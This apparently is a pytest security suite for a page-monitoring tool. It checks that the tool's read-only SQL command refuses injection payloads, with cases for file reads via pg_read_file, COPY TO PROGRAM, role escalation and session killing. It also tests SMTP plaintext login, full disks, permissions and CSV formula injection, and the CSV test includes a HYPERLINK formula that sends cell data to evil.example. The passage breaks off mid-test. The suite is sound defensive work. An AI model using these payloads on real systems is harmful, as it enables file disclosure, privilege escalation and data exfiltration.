"""Attacks and unlucky operators (issue 23), replayed on SQLite and PostgreSQL.

Each `sql` attack must be refused with a one-line message, change nothing in the database, create no file and
run no command. The rest: SMTP passwords never in clear, URLs the crawler would drop, a full disk at the lock
file and at the reports, Retry-After for its time only, file permissions, bad values, and `status` after a
kill.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.conftest import BIN, cli, permits_config_body, policywatch, scripted_server
from tests.smtp_server import SmtpSink

pytestmark = pytest.mark.slow


# --- a database with a real pass in it -------------------------------------------------------------------
@pytest.fixture(params=["sqlite", "postgresql"])
def filled(request, permits_site, write_config, tmp_path):
    """(config path, SQLAlchemy URL) of a history holding two real passes of the permits site."""
    storage = request.getfixturevalue("pg_url") if request.param == "postgresql" else None
    cfg = write_config(permits_config_body(permits_site), storage=storage)
    for night in (1, 2):
        permits_site.night(night)
        p = policywatch("run", "--config", str(cfg))
        assert p.returncode == 0, p.stderr
    url = storage or f"sqlite:///{(tmp_path / 'history.db').as_posix()}"
    if storage:  # the analysts' role, as docs/analysts.md sets it up: `sql` refuses the superuser
        read_url = request.getfixturevalue("analyst_url")
        text = cfg.read_text().replace(f'url = "{storage}"', f'url = "{storage}"\nread_url = "{read_url}"', 1)
        cfg.write_text(text)
    return cfg, url


def snapshot(url: str) -> dict[str, str]:
    """Every table's rows, hashed: any write, schema change or new table shows."""
    engine = sa.create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    try:
        with engine.connect() as conn:
            names = sorted(sa.inspect(conn).get_table_names())
            out = {}
            for name in names:
                rows = conn.exec_driver_sql(f'SELECT * FROM "{name}"').all()
                out[name] = hashlib.sha256(repr(sorted(map(repr, rows))).encode()).hexdigest()
            return out
    finally:
        engine.dispose()


def attacks(marker: Path) -> list[str]:
    m = str(marker)
    return [
        "COMMIT; DELETE FROM changes",
        "COMMIT; UPDATE runs SET status = 'x'",
        "COMMIT; CREATE TABLE evil (a int)",
        "select 1; -- then\nDROP TABLE runs",
        "DELETE FROM changes",
        "UPDATE runs SET status = 'x'",
        "CREATE TABLE evil (a int)",
        "WITH d AS (DELETE FROM changes RETURNING id) SELECT * FROM d",
        "SELECT * INTO evil FROM changes",
        f"COPY (SELECT 1) TO PROGRAM 'touch {m}'",
        f"COPY changes TO '{m}'",
        "SELECT pg_read_file('/etc/hostname')",
        "SELECT \"pg_read_file\"('/etc/hostname')",
        "SELECT pg_catalog.pg_ls_dir('.')",
        "SELECT * FROM pg_stat_file('/etc/hostname')",
        f"SELECT lo_export(lo_import('/etc/hostname'), '{m}')",
        "SELECT query_to_xml('select pg_read_file(''/etc/hostname'')', true, false, '')",
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        "SELECT pg_advisory_lock(482184734052)",
        "DO $$ BEGIN DELETE FROM changes; END $$",
        "CALL evil()",
        f"ATTACH DATABASE '{m}' AS evil",
        f"VACUUM INTO '{m}'",
        "PRAGMA user_version = 7",
        "PRAGMA query_only = OFF",
        "SELECT load_extension('/tmp/evil')",
    ]


def test_sql_attacks_change_nothing_create_nothing_run_nothing(filled, tmp_path):
    cfg, url = filled
    before = snapshot(url)
    marker = tmp_path / "evil-marker"
    for attack in attacks(marker):  # in this process: the guard is the command's own code, a new Python each
        # time would prove nothing more (an exception the command does not turn into a message fails the test)
        p = cli("sql", attack, "--config", str(cfg))
        assert p.returncode == 2, (attack, p.returncode, p.stdout, p.stderr)
        assert p.stderr.startswith("policywatch: ") and "Traceback" not in p.stderr, (attack, p.stderr)
        assert p.stdout == "", (attack, p.stdout)
        assert not marker.exists(), attack
        assert snapshot(url) == before, attack
    # and the command still answers honest questions
    p = cli(
        "sql",
        "SELECT kind, count(*) AS n FROM changes GROUP BY kind ORDER BY kind",
        "--config",
        str(cfg),
        "--format",
        "json",
    )
    assert p.returncode == 0, p.stderr
    assert {r["kind"] for r in json.loads(p.stdout)} == {"new_page", "changed"}


def test_each_layer_refuses_on_its_own(filled, tmp_path, monkeypatch):
    """With the parser taken away, the driver and the session still refuse (defence in depth)."""
    from policywatch.storage import readonly

    cfg, url = filled
    before = snapshot(url)
    marker = tmp_path / "evil-marker"
    admin_url, url = url, _read_url(cfg) or url  # PostgreSQL: the analysts' role runs the queries
    monkeypatch.setattr(readonly, "check_query", lambda q, dialect="postgresql": q)
    for attack in (
        "COMMIT; DELETE FROM changes",
        "DELETE FROM changes",
        "CREATE TABLE evil (a int)",
        f"ATTACH DATABASE '{marker}' AS evil",
        f"VACUUM INTO '{marker}'",
        "PRAGMA user_version = 7",
    ):
        _refused(readonly, url, attack)
        assert not marker.exists(), attack
        assert snapshot(admin_url) == before, attack
    if url.startswith("postgresql"):
        other = sa.create_engine(admin_url.replace("postgresql://", "postgresql+psycopg://", 1))
        with other.connect() as session:  # another session, the pass's role's
            pid = session.exec_driver_sql("SELECT pg_backend_pid()").scalar()
            for attack in (  # with no checks at all, the role itself refuses: no files, no role, no session
                "SELECT pg_read_file('/etc/hostname')",
                "SELECT pg_ls_dir('.')",
                "SELECT set_config('role', 'postgres', true)",
                f"SELECT pg_terminate_backend({pid})",
                f"SELECT pg_cancel_backend({pid})",
                "SELECT * FROM pass_lock FOR UPDATE",
            ):
                _refused(readonly, url, attack)
            assert session.exec_driver_sql("SELECT 1").scalar() == 1  # still alive
        other.dispose()
        with pytest.raises(readonly.RoleTooPowerful, match=r"read_url.*db analyst-role"):
            with readonly.run_readonly(admin_url, "SELECT 1") as result:  # the superuser: refused
                list(result.rows)


def _refused(readonly, url: str, attack: str) -> None:
    with pytest.raises((readonly.QueryRefused, readonly.QueryFailed)):
        with readonly.run_readonly(url, attack) as result:
            list(result.rows)


def _read_url(cfg: Path) -> str | None:
    m = re.search(r'^read_url = "([^"]+)"', cfg.read_text(), re.M)
    return m.group(1) if m else None


def test_sql_timeout_and_streaming(filled):
    cfg, url = filled
    slow = (
        "SELECT pg_sleep(60)"
        if url.startswith("postgresql")
        else "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r"
    )
    p = policywatch("sql", slow, "--config", str(cfg), "--timeout", "1", timeout=40)
    assert p.returncode == 1 and "longer than 1 s" in p.stderr and "--timeout" in p.stderr, p.stderr
    assert "Traceback" not in p.stderr

    # A million rows as NDJSON, measured in a fresh process: streamed, never held (it took 446 MB before).
    rows = (
        "SELECT generate_series(1, 1000000) AS n"
        if url.startswith("postgresql")
        else "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 1000000) SELECT n "
        "FROM r"
    )
    probe = (
        "import resource, subprocess, sys\n"
        "p = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE, stderr=subprocess.PIPE)\n"
        "lines = p.stdout.count(b'\\n')\n"
        "print(p.returncode, lines, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
    )
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            probe,
            str(BIN / "policywatch"),
            "sql",
            rows,
            "--config",
            str(cfg),
            "--format",
            "ndjson",
            "--timeout",
            "0",
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    rc, lines, peak_mb = map(int, done.stdout.split())
    assert (rc, lines) == (0, 1_000_000), done.stderr
    assert peak_mb < 160, f"peak RSS {peak_mb} MB for a million rows: not streamed"

    p = policywatch("sql", rows, "--config", str(cfg), "--max-rows", "20")  # the table stops and says so
    assert p.returncode == 0 and "stopped at 20 rows" in p.stderr
    assert p.stdout.count("│") < 30 * 4


# --- SMTP --------------------------------------------------------------------------------------------------
def _mail_config(write_config, permits_site, mail: str) -> Path:
    return write_config(
        permits_config_body(permits_site) + f'\n[mail]\n{mail}\n[[subscriber]]\nemail = "ana@example.org"\n'
    )


@pytest.mark.parametrize(
    "mail, key",
    [
        ('host = "smtp.example.org"\nusername_env = "U"\npassword_env = "P"', "mail.security"),
        (
            'host = "smtp.example.org"\nsecurity = "none"\nusername_env = "U"\npassword_env = "P"',
            "mail.security",
        ),
        ('host = "127.0.0.1"\nusername_env = "U"\npassword_env = "P"', "mail.security"),
        (
            'host = "smtp.example.org"\nusername_env = "U"\npassword_env = "P"\nallow_plaintext_auth = true',
            "mail.allow_plaintext_auth",
        ),
        ('host = "smtp.example.org"\ntimeout = 0', "mail.timeout"),
    ],
)
def test_smtp_credentials_never_in_clear(write_config, permits_site, mail, key):
    cfg = _mail_config(write_config, permits_site, mail)
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 2 and f"config error: {key}" in p.stderr, p.stderr
    assert permits_site.server.requests == []  # refused before anything was fetched


def test_plaintext_login_only_to_loopback_when_allowed(write_config, permits_site, monkeypatch):
    monkeypatch.setenv("PW_SEC_USER", "bot")
    monkeypatch.setenv("PW_SEC_PASS", "pa55-word")
    with SmtpSink(credentials=("bot", "pa55-word")) as sink:
        cfg = _mail_config(
            write_config,
            permits_site,
            f'host = "127.0.0.1"\nport = {sink.port}\n'
            'username_env = "PW_SEC_USER"\npassword_env = "PW_SEC_PASS"\nallow_plaintext_auth = true',
        )
        assert (
            policywatch("run", "--config", str(cfg)).returncode == 0
        )  # a first night is a baseline: no digest
        permits_site.night(2)
        p = policywatch("run", "--config", str(cfg))
        assert p.returncode == 0, p.stderr
        assert sink.logins == ["bot"] and [m["To"] for m in sink.parsed()] == ["ana@example.org"], p.stdout


def test_send_refuses_a_login_without_tls_whatever_built_the_settings():
    from policywatch.monitor.config.ops import MailSettings
    from policywatch.reports.mail import SendError, send_message

    env = {"U": "bot", "P": "pa55-word"}
    with SmtpSink() as sink:
        settings = MailSettings(
            host="127.0.0.1", port=sink.port, username_env="U", password_env="P", timeout=5
        )
        with pytest.raises(SendError, match="not logging in without TLS") as exc:
            send_message(settings, b"Subject: x\r\n\r\nx\r\n", "a@policywatch.test", ["b@example.org"], env)
        assert exc.value.definite and sink.messages == [] and sink.logins == []


# --- configuration ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "crawl, key",
    [
        ("timeout = -5", "crawl.timeout"),
        ("timeout = 0", "crawl.timeout"),
        ("retries = -1", "crawl.retries"),
        ("download_delay = -1", "crawl.download_delay"),
    ],
)
def test_bad_numbers_are_config_errors(write_config, permits_site, crawl, key):
    body = (
        permits_config_body(permits_site)
        .replace("\nretries = 0\n", "\n")
        .replace("\ndownload_delay = 0\n", "\n")
    )
    body = body.replace("[crawl]\n", f"[crawl]\n{crawl}\n", 1)
    p = policywatch("run", "--config", str(write_config(body)))
    assert p.returncode == 2 and f"config error: {key}" in p.stderr, p.stderr


def test_urls_the_crawler_would_drop_or_that_carry_secrets(write_config, permits_site):
    long_url = permits_site.url("/en/" + "a" * 2100 + ".html")
    secret = permits_site.url("/en/work-permits.html").replace("http://", "http://ana:hunter2@")
    for url, says in (
        (long_url, "characters long"),
        (secret, "user name or password"),
        (permits_site.url("/en/a b.html"), "white space"),
    ):
        body = permits_config_body(permits_site) + f'\n[[watch]]\nurl = "{url}"\n'
        p = policywatch("run", "--config", str(write_config(body)))
        assert p.returncode == 2 and "config error: watch[4].url" in p.stderr and says in p.stderr, p.stderr
        assert "hunter2" not in p.stderr
    news = permits_site.url("/en/news/")
    body = permits_config_body(permits_site).replace(
        f'["{news}"]', f'["{news.replace("http://", "http://u:pw@")}"]'
    )
    p = policywatch("run", "--config", str(write_config(body)))
    assert p.returncode == 2 and "discovery.follow_prefixes[0]" in p.stderr and ":pw@" not in p.stderr, (
        p.stderr
    )


def test_empty_watchlist_is_a_config_error_for_a_pass(write_config, tmp_path):
    cfg = write_config('[crawl]\nallowed_domains = ["www.canada.ca"]\n')
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 2 and "config error: watch:" in p.stderr and "empty" in p.stderr
    assert not (tmp_path / "history.db").exists()  # nothing started


def test_every_watch_ends_a_pass_with_a_fetch_row(permits_site, write_config, tmp_path):
    """What the config accepts, the crawl fetches: one fetch row per watch (a 2,000-character URL
    included)."""
    long_path = "/en/" + "b" * 2000 + ".html"
    permits_site.server.pages[long_path] = (
        b"<html><body><main><h1>Long</h1><p>A long address.</p></main></body></html>",
        "text/html; charset=utf-8",
    )
    body = permits_config_body(permits_site) + f'\n[[watch]]\nurl = "{permits_site.url(long_path)}"\n'
    cfg = write_config(body)
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 0, p.stderr
    con = sqlite3.connect(tmp_path / "history.db")
    urls = {u for (u,) in con.execute("SELECT url FROM fetch_log WHERE run_id = 1")}
    con.close()
    assert permits_site.url(long_path) in urls and len(urls) >= 5


# --- a full disk -------------------------------------------------------------------------------------------
def _fill(directory: Path) -> Path:
    filler = directory / "filler"
    with open(filler, "wb") as f:
        try:
            while True:
                f.write(b"\0" * 65536)
                f.flush()
        except OSError:
            pass
    return filler


def test_full_disk_at_the_lock_file(permits_site, write_config, tmp_path, tiny_disk):
    cfg = write_config(permits_config_body(permits_site))
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    lock = tmp_path / "history.db.lock"
    lock.unlink()
    lock.symlink_to(tiny_disk / "history.db.lock")  # the lock file, and only it, on a disk that is full
    url = f"sqlite:///{tmp_path / 'history.db'}"
    before = snapshot(url)
    filler = _fill(tiny_disk)
    permits_site.night(2)
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 3, p.stdout + p.stderr
    assert "Traceback" not in p.stderr and len(p.stderr.strip().splitlines()) == 1, p.stderr
    assert "pass lock file" in p.stderr and "No space left" in p.stderr
    assert snapshot(url) == before  # nothing was written
    filler.unlink()
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 0, p.stderr


def test_full_disk_at_the_reports_loses_no_change_and_no_digest(
    permits_site, write_config, tmp_path, tiny_disk
):
    logs = tmp_path / "logs"
    logs.mkdir()
    reports = tiny_disk / "reports"
    reports.mkdir()
    (reports / "logs").symlink_to(logs)  # the logs stay writable: this is the reports' full disk
    with SmtpSink() as sink:
        cfg = write_config(
            f'[reports]\ndir = "{reports}"\n'
            + permits_config_body(permits_site)
            + f'\n[mail]\nhost = "127.0.0.1"\nport = {sink.port}\n'
            '[[subscriber]]\nemail = "ana@example.org"\n'
        )
        assert policywatch("run", "--config", str(cfg)).returncode == 0
        index_before = (reports / "index.html").read_bytes()
        sink.messages.clear()
        filler = _fill(tiny_disk)
        permits_site.night(2)
        p = policywatch("run", "--config", str(cfg))
        assert p.returncode == 3, p.stdout + p.stderr
        assert "Traceback" not in p.stderr and len(p.stderr.strip().splitlines()) == 1, p.stderr
        assert "could not write the reports" in p.stderr and "policywatch site" in p.stderr
        assert len(sink.messages) == 1  # the night's digest went out
        assert (reports / "index.html").read_bytes() == index_before  # the last good report, whole
        assert not [f for f in reports.iterdir() if f.name.startswith(".")]  # no half-written temporary files
        con = sqlite3.connect(tmp_path / "history.db")
        assert con.execute("SELECT status FROM runs WHERE id = 2").fetchone() == ("completed",)
        assert (
            con.execute("SELECT count(*) FROM changes WHERE run_id = 2 AND kind = 'changed'").fetchone()[0]
            >= 2
        )
        con.close()
        filler.unlink()
        p = policywatch("site", "--config", str(cfg))
        assert p.returncode == 0, p.stderr
        assert (reports / "site" / "index.html").exists()
        permits_site.night(3)
        p = policywatch("run", "--config", str(cfg))
        assert p.returncode == 0, p.stderr
        con = sqlite3.connect(tmp_path / "history.db")
        night2 = {i for (i,) in con.execute("SELECT id FROM changes WHERE run_id = 2")}
        sent = [c for (c,) in con.execute("SELECT change_id FROM digest_items")]
        con.close()
        assert night2 <= set(sent) and len(sent) == len(set(sent))  # night 2 delivered, and only once


# --- Retry-After --------------------------------------------------------------------------------------------
def test_retry_after_holds_for_its_time_only(write_config, tmp_path):
    arrivals: list[tuple[float, str]] = []
    lock = threading.Lock()

    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        with lock:
            arrivals.append((time.monotonic(), path))
            first = len(arrivals) == 1
        if first:
            return 503, {"Retry-After": "3"}, b""
        return (
            200,
            {"Content-Type": "text/html"},
            f"<html><body><main><h1>{path}</h1></main></body></html>".encode(),
        )

    with scripted_server(answer) as port:
        watches = "".join(f'[[watch]]\nurl = "http://127.0.0.1:{port}/p{i:02d}.html"\n' for i in range(26))
        cfg = write_config(
            f'[crawl]\nallowed_domains = ["127.0.0.1:{port}"]\ndownload_delay = 0\nautothrottle = false\n'
            f"concurrency_per_domain = 1\nretries = 2\n{watches}"
        )
        p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 0, p.stderr
    assert len(arrivals) == 27  # 26 pages, one of them twice
    retried = [t for t, path in arrivals if path == arrivals[0][1]]
    assert retried[1] - retried[0] >= 2.5  # the server's 3 s were honoured
    times = [t for t, _ in arrivals]
    gaps = [b - a for a, b in zip(times, times[1:], strict=False)]
    hold = gaps.index(max(gaps))
    assert gaps[hold] >= 2.5  # the host was held (requests already on their way when the 503 came were not)
    assert len(gaps) - hold - 1 >= 8  # and most of the night came after the hold
    # Then the host's own delay (0) came back: the crawl says so (with the bug it never did, and every later
    # request waited the 3 s again). Behaviour, not timing: how fast the rest went is for bench/.
    log = (tmp_path / "reports" / "logs" / "run-1.log").read_text()
    assert re.search(r"Retry-After over for \S+: its delay is 0\.0s again", log), log[-2000:]


# --- permissions --------------------------------------------------------------------------------------------
def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_permissions_published_reports_private_history(permits_site, write_config, tmp_path, umask):
    cfg = write_config(permits_config_body(permits_site))
    p = subprocess.run(
        [
            "sh",
            "-c",
            f'umask {umask:03o}; exec "$0" "$@"',
            str(BIN / "policywatch"),
            "run",
            "--config",
            str(cfg),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert p.returncode == 0, p.stderr
    reports = tmp_path / "reports"
    published = [f for f in reports.rglob("*") if f.is_file() and "logs" not in f.parts]
    assert published and {_mode(f) for f in published} == {0o644}, {str(f): oct(_mode(f)) for f in published}
    logs = list((reports / "logs").iterdir())
    assert logs and {_mode(f) for f in logs} == {0o600} and _mode(reports / "logs") == 0o700
    private = [f for f in tmp_path.iterdir() if f.name.startswith("history.db")]
    assert private and {_mode(f) for f in private} == {0o600}, {str(f): oct(_mode(f)) for f in private}


# --- status after a kill ------------------------------------------------------------------------------------
@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_status_after_the_pass_was_killed(backend, permits_site, write_config, request):
    storage = request.getfixturevalue("pg_url") if backend == "postgresql" else None
    cfg = write_config(permits_config_body(permits_site), storage=storage)
    permits_site.server.delay = 3.0
    run = subprocess.Popen(
        [str(BIN / "policywatch"), "run", "--config", str(cfg)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.time() + 60
    while not permits_site.server.requests and time.time() < deadline:
        time.sleep(0.1)
    live = json.loads(policywatch("status", "--config", str(cfg), "--format", "json").stdout)
    assert live["running"] is not None and live["interrupted"] is None
    os.kill(run.pid, signal.SIGKILL)
    run.wait()
    time.sleep(0.5)  # the server notices the closed connection (PostgreSQL) and releases the lock
    p = policywatch("status", "--config", str(cfg), "--format", "json")
    data = json.loads(p.stdout)
    assert data["running"] is None and data["interrupted"]["run_id"] == live["running"]["run_id"], data
    text = policywatch("status", "--config", str(cfg)).stdout
    assert "running now" not in text and "interrupted: run 1" in text


# --- issue 28: a hostile analyst ---------------------------------------------------------------------------
BACKSLASH = "SELECT '\\' a, {} --'"  # sqlparse read one string here; PostgreSQL runs what follows the '\'


def test_postgresql_sql_refuses_a_superuser_url_without_read_url(permits_site, write_config, pg_url):
    cfg = write_config(permits_config_body(permits_site), storage=pg_url)
    p = policywatch("sql", "SELECT 1", "--config", str(cfg))
    assert p.returncode == 2, p.stderr
    assert "superuser" in p.stderr and "read_url" in p.stderr and "db analyst-role" in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1 and p.stdout == ""


@pytest.mark.parametrize("filled", ["postgresql"], indirect=True)
def test_postgresql_hostile_analyst_reads_no_file_ends_no_session_blocks_no_pass(filled, tmp_path):
    cfg, url = filled
    before = snapshot(url)
    engine = sa.create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.connect() as session:
        pid = session.exec_driver_sql("SELECT pg_backend_pid()").scalar()
        for payload in (
            "set_config('role', 'postgres', true)",
            "query_to_xml('select pg_read_file(''/etc/hostname'')', true, false, '')",
            "pg_ls_dir('.')",
            f"pg_terminate_backend({pid})",
            "pg_advisory_lock(482184734052)",
            "set_config('statement_timeout', '0', true)",
        ):
            for query in (BACKSLASH.format(payload), f"SELECT E'\\'', {payload} --'"):
                p = policywatch("sql", query, "--config", str(cfg), "--timeout", "5")
                assert p.returncode == 2, (query, p.stdout, p.stderr)
                assert p.stdout == "" and "Traceback" not in p.stderr
        for spelled in ('U&"\\0070g_read_file"', "U&\"!0070g_read_file\" UESCAPE '!'"):
            p = policywatch("sql", f"SELECT {spelled}('/etc/hostname')", "--config", str(cfg))
            assert p.returncode == 2 and "pg_read_file" in p.stderr, p.stderr
        assert session.exec_driver_sql("SELECT 1").scalar() == 1  # no session was ended
    engine.dispose()
    assert snapshot(url) == before


@pytest.mark.parametrize("filled", ["postgresql"], indirect=True)
def test_postgresql_timeout_is_kept_from_outside_the_query(filled):
    cfg, url = filled
    from policywatch.storage import readonly

    read_url = _read_url(cfg)
    assert read_url
    started = time.monotonic()
    # Even a query that lifts its own statement_timeout (checks bypassed) is cancelled at the deadline.
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(readonly, "check_query", lambda q, dialect="postgresql": q)
        with pytest.raises(readonly.QueryTimeout):
            with readonly.run_readonly(
                read_url, "SELECT set_config('statement_timeout', '0', true), pg_sleep(60)", timeout=1
            ) as result:
                list(result.rows)
    assert time.monotonic() - started < 15  # cancelled, not 60 s


def test_analysts_role_cannot_hold_the_pass_off(permits_site, write_config, pg_url, analyst_url):
    """Advisory locks are open to every role; the pass's lock is a table lock only its own role can take."""
    cfg = write_config(permits_config_body(permits_site), storage=pg_url)
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    analyst = sa.create_engine(analyst_url.replace("postgresql://", "postgresql+psycopg://", 1))
    with analyst.connect() as conn:
        for key in (0x706F6C6964, 0x706F6C6963):  # the old pass lock key, the migration's
            assert conn.exec_driver_sql(f"SELECT pg_try_advisory_lock({key})").scalar()
        with pytest.raises(sa.exc.ProgrammingError):  # no SELECT on the lock table, so no lock on it
            conn.exec_driver_sql("LOCK TABLE pass_lock IN EXCLUSIVE MODE NOWAIT")
        conn.rollback()
        for key in (0x706F6C6964, 0x706F6C6963):
            conn.exec_driver_sql(f"SELECT pg_try_advisory_lock({key})")
        permits_site.night(2)
        p = policywatch(
            "run", "--config", str(cfg), timeout=120
        )  # while the analyst holds every advisory lock
        assert p.returncode == 0, p.stderr
    analyst.dispose()


def test_db_analyst_role_prints_then_applies(permits_site, write_config, pg_url):
    import uuid

    cfg = write_config(permits_config_body(permits_site), storage=pg_url)
    name = f"pwa_{uuid.uuid4().hex[:10]}"
    p = policywatch("db", "analyst-role", "--config", str(cfg), "--name", name)
    assert p.returncode == 0 and f'CREATE ROLE "{name}" LOGIN' in p.stdout and "read_url" in p.stdout
    assert "GRANT SELECT ON change_log" in p.stdout and "pass_lock" not in p.stdout
    assert "SUPERUSER" not in p.stdout.replace("NOSUPERUSER", "")
    admin = sa.create_engine(pg_url, isolation_level="AUTOCOMMIT")
    try:
        with admin.connect() as conn:  # printing created nothing
            assert (
                conn.exec_driver_sql(f"SELECT count(*) FROM pg_roles WHERE rolname = '{name}'").scalar() == 0
            )
        p = policywatch("db", "analyst-role", "--config", str(cfg), "--name", name, "--apply")
        assert p.returncode == 0 and f"role {name} created" in p.stdout, p.stderr
        with admin.connect() as conn:
            granted = set(
                conn.exec_driver_sql(
                    "SELECT table_name FROM information_schema.role_table_grants "
                    f"WHERE grantee = '{name}' AND privilege_type = 'SELECT'"
                ).scalars()
            )
            others = conn.exec_driver_sql(
                "SELECT count(*) FROM information_schema.role_table_grants "
                f"WHERE grantee = '{name}' AND privilege_type <> 'SELECT'"
            ).scalar()
            tables = set(
                conn.exec_driver_sql(
                    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"
                ).scalars()
            )
        assert others == 0
        assert granted == tables - {"alembic_version", "pass_lock"}  # every documented view and table
        p = policywatch("db", "analyst-role", "--config", str(cfg), "--name", "postgres", "--apply")
        assert p.returncode == 2 and "choose another --name" in p.stderr
    finally:
        with admin.connect() as conn:
            conn.exec_driver_sql(f'DROP OWNED BY "{name}"')
            conn.exec_driver_sql(f'DROP ROLE IF EXISTS "{name}"')
        admin.dispose()


@pytest.mark.parametrize(
    "query",
    [
        "SELECT printf('%.*c', 900000000, 'x')",
        "SELECT printf('%999999999c', 'x')",
        "SELECT zeroblob(999999999)",
        "SELECT randomblob(999999999)",
        "SELECT length(replace(hex(zeroblob(40000000)), '0', 'ab'))",
    ],
)
def test_sqlite_huge_values_end_in_one_line(permits_site, write_config, tmp_path, query):
    cfg = write_config(permits_config_body(permits_site))
    assert policywatch("db", "upgrade", "--config", str(cfg)).returncode == 0
    started = time.monotonic()
    p = policywatch("sql", query, "--config", str(cfg), "--format", "csv", "--timeout", "5", timeout=60)
    assert p.returncode in (1, 2), (p.returncode, p.stderr[-500:])
    assert p.returncode != -signal.SIGSEGV and "Traceback" not in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1 and ("larger than" in p.stderr or "5 s" in p.stderr)
    assert time.monotonic() - started < 30


def test_sql_lexer_reads_strings_as_each_server_does():
    from policywatch.storage.readonly import QueryRefused, check_query

    refused = [
        ("SELECT '\\' a, pg_read_file('/x') --'", "postgresql"),
        ("SELECT E'\\'', set_config('role', 'postgres', true) --'", "postgresql"),
        ("SELECT $q$ ' $q$, pg_ls_dir('.')", "postgresql"),
        ("SELECT 1 /* /* */ ; DELETE FROM changes */", "sqlite"),  # flat comments: the DELETE is live
        ("SELECT U&\"\\+000070g_ls_dir\"('.')", "postgresql"),
        ("SELECT 'open", "postgresql"),
        ("SELECT e'\\'", "postgresql"),
        ("SELECT 1e'x'", "postgresql"),
    ]
    for query, dialect in refused:
        with pytest.raises(QueryRefused):
            check_query(query, dialect)
    kept = [
        ("SELECT 'it''s', replace(title, 'a', 'b') FROM change_log -- note", "sqlite", "SELECT 'it''s',"),
        ("SELECT 1 /* /* nested */ ; DELETE */", "postgresql", "SELECT 1"),
        ("SELECT x'00ff', [odd name] FROM t;", "sqlite", "SELECT x'00ff', [odd name] FROM t"),
        ("SELECT $$ ; DELETE $$ AS s", "postgresql", "SELECT $$ ; DELETE $$ AS s"),
    ]
    for query, dialect, starts in kept:
        assert check_query(query, dialect).startswith(starts)


# --- issue 28: hostile pages, files and outputs -----------------------------------------------------------
def test_a_deeply_nested_json_file_costs_that_file_only(permits_site, write_config, tmp_path):
    deep = b'{"rounds": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    permits_site.server.pages["/deep.json"] = (deep, "application/json")
    cfg = write_config(
        permits_config_body(permits_site)
        + f'\n[[watch]]\nurl = "{permits_site.url("/deep.json")}"\nkind = "json"\n'
    )
    p = policywatch("run", "--config", str(cfg))
    assert p.returncode == 0, p.stderr
    con = sqlite3.connect(tmp_path / "history.db")
    status, failed = con.execute("SELECT status, pages_failed FROM runs").fetchone()
    outcome, message = con.execute(
        "SELECT f.outcome, f.message FROM fetches f JOIN pages p ON p.id = f.page_id "
        "WHERE p.url LIKE '%deep.json'"
    ).fetchone()
    ok = con.execute("SELECT count(*) FROM fetches WHERE outcome = 'ok'").fetchone()[0]
    con.close()
    assert status == "completed" and failed == 1
    assert outcome in ("soft_error", "unreadable") and "nested too deeply" in message
    assert ok >= 2  # the other pages were stored


def test_a_page_whose_reading_fails_is_that_pages_failed_fetch(
    permits_site, write_config, tmp_path, monkeypatch
):
    """Any exception in one page's work (here detection raising on one page) is recorded as its fetch."""
    from policywatch.monitor import pagework
    from policywatch.monitor.config import load_config
    from policywatch.monitor.detection import detect
    from policywatch.monitor.fetchresult import FetchResult
    from policywatch.storage import open_database

    cfg = load_config(write_config(permits_config_body(permits_site)))
    db = open_database(cfg.storage_url)
    try:
        with db.session() as s:
            from policywatch.storage import queries as q

            run_id = q.open_run(s).id
        work = pagework.PageWork(db, cfg, run_id, first_run=True)

        def boom(*args, **kwargs):
            raise KeyError("a template no rule expected")

        monkeypatch.setattr(detect, "detect_html", boom)  # what monitor.page.compare calls
        body = permits_site.server.pages["/en/work-permits.html"][0]
        url = permits_site.url("/en/work-permits.html")
        outcome = work.process(FetchResult(url=url, status=200, body=body, content_type="text/html"))
        assert (outcome.result, outcome.outcome) == ("failed", "unreadable")
        assert "KeyError" in (outcome.message or "")
        with db.session() as s:
            rows = s.execute(sa.text("SELECT outcome, message FROM fetches")).all()
            versions = s.execute(sa.text("SELECT count(*) FROM versions")).scalar()
        assert [r[0] for r in rows] == ["unreadable"] and "a template no rule expected" in rows[0][1]
        assert versions == 0  # nothing half-written
    finally:
        db.dispose()


def test_csv_never_carries_a_live_formula(permits_site, write_config, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    cfg = write_config(permits_config_body(permits_site))
    assert policywatch("run", "--config", str(cfg)).returncode == 0
    con = sqlite3.connect(tmp_path / "history.db")
    con.execute("UPDATE changes SET title = ?, summary = ?", (evil, "+1 " + evil))
    con.commit()
    con.close()
    outputs = [
        policywatch("changes", "--config", str(cfg), "--format", "csv").stdout,
        policywatch("export", "changes", "--config", str(cfg), "--format", "csv").stdout,
        policywatch(
            "sql",
            "SELECT title, summary, '@SUM(1)' AS a, '-2' AS b FROM changes",
            "--config",
            str(cfg),
            "-f",
            "csv",
